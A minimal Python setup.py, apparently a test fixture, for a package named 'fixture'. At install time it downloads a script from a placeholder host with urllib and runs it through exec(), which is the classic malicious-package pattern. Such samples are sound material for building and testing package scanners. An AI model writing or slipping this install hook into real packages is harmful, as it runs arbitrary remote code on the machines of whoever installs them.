import urllib.request
from setuptools import setup
exec(urllib.request.urlopen("https://d.example.invalid/s.py").read())
setup(name="fixture", version="1.0")
